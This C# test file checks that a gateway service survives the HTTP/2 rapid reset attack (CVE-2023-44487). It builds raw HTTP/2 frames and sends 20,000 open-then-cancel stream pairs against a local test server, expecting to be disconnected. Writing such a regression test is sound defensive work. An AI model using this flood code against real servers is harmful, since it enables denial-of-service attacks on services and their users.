using System.Buffers.Binary;
using System.Net.Sockets;
using System.Text;

namespace RlhfT2I.Gateway.Tests.Api;

/// <summary>HTTP/2 rapid reset (CVE-2023-44487): a client that opens streams and cancels each at once, so that the limit of streams never stops it.</summary>
public sealed class RapidResetTests
{
    private const int Streams = 20_000;

    private static CancellationToken Cancel => TestContext.Current.CancellationToken;

    [Fact]
    public async Task Connection_ThatResetsItsStreams_IsClosedAndOthersAreServed()
    {
        await using Suite suite = await Suite.StartAsync();
        var address = new Uri(suite.Channel.Target.Contains("://", StringComparison.Ordinal) ? suite.Channel.Target : $"http://{suite.Channel.Target}");
        using var client = new TcpClient();
        await client.ConnectAsync(address.Host, address.Port, Cancel);
        NetworkStream stream = client.GetStream();
        Task<bool> closed = EndAsync(stream);
        await FloodAsync(stream, address.Authority);

        (await closed.WaitAsync(TimeSpan.FromSeconds(60), Cancel)).ShouldBeTrue("the server says goodbye or hangs up");
        (await suite.SendJsonAsync(HttpMethod.Get, "/v1/" + Suite.JobName, FakeRooms.OwnerKey)).EnsureSuccessStatusCode();
    }

    private static async Task FloodAsync(NetworkStream stream, string authority)
    {
        byte[] headers = Headers(authority);
        try
        {
            await stream.WriteAsync(Encoding.ASCII.GetBytes("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"), Cancel);
            await stream.WriteAsync(Frame(4, 0, 0, []), Cancel);
            for (int i = 0; i < Streams; i++)
            {
                int id = 2 * i + 1;
                // HEADERS with END_HEADERS, then RST_STREAM with CANCEL.
                await stream.WriteAsync((byte[])[.. Frame(1, 4, id, headers), .. Frame(3, 0, id, [0, 0, 0, 8])], Cancel);
            }
        }
        catch (IOException)
        {
            // Hung up on us, which is what we want.
        }
    }

    /// <summary>Reads until the connection ends or the server says that it will (GOAWAY).</summary>
    private static async Task<bool> EndAsync(NetworkStream stream)
    {
        byte[] head = new byte[9];
        try
        {
            while (true)
            {
                await stream.ReadExactlyAsync(head, Cancel);
                byte[] payload = new byte[(head[0] << 16) | (head[1] << 8) | head[2]];
                await stream.ReadExactlyAsync(payload, Cancel);
                if (head[3] == 7)
                    return true;
            }
        }
        catch (IOException)
        {
            return true;
        }
    }

    private static byte[] Frame(byte type, byte flags, int stream, byte[] payload)
    {
        byte[] frame = new byte[9 + payload.Length];
        (frame[0], frame[1], frame[2], frame[3], frame[4]) = ((byte)(payload.Length >> 16), (byte)(payload.Length >> 8), (byte)payload.Length, type, flags);
        BinaryPrimitives.WriteInt32BigEndian(frame.AsSpan(5), stream);
        payload.CopyTo(frame, 9);
        return frame;
    }

    // HPACK without Huffman: :method POST and :scheme http from the static table, :path and :authority as texts under its names.
    private static byte[] Headers(string authority)
    {
        byte[] path = Encoding.ASCII.GetBytes("/rlhf.generation.v1.GenerationService/GetGenerationJob"), host = Encoding.ASCII.GetBytes(authority);
        return [0x83, 0x86, 0x04, (byte)path.Length, .. path, 0x01, (byte)host.Length, .. host];
    }
}
